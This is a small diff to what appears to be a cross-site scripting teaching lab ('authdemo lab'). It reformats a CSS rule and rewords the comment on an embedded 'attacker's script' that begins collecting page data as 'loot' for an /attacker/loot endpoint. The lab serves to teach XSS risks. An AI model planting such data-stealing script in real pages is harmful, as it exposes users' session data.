@@ -88,7 +88,8 @@ MAX_LOOT_BYTES = 64 * 1024
 _PAGE = """<!doctype html>
 <html lang="en"><head><meta charset="utf-8"><title>authdemo lab: __TITLE__</title>
 <style>
- body { font-family: system-ui, sans-serif; max-width: 46rem; margin: 2rem auto; line-height: 1.45 }
+ body { font-family: system-ui, sans-serif; max-width: 46rem; margin: 2rem auto;
+        line-height: 1.45 }
  .box { border: 1px solid #ccc; border-radius: 4px; padding: .5rem 1rem; margin: 1rem 0 }
  #comment { border-left: 4px solid #c33; padding-left: .5rem; min-height: 1.5rem }
  code { background: #f4f4f4 }
@@ -175,7 +176,7 @@ attacker's script could take: <a href="/attacker/loot">/attacker/loot</a>.</p>
 """
 
 # --- the attacker's script ----------------------------------------------------------------
-STEAL_JS = """// The attacker's script. Any script that runs in the page's origin (an XSS) can do this.
+STEAL_JS = """// The attacker's script: what any script running in the page's origin can do.
 (async () => {
   const loot = {
     page: location.pathname,
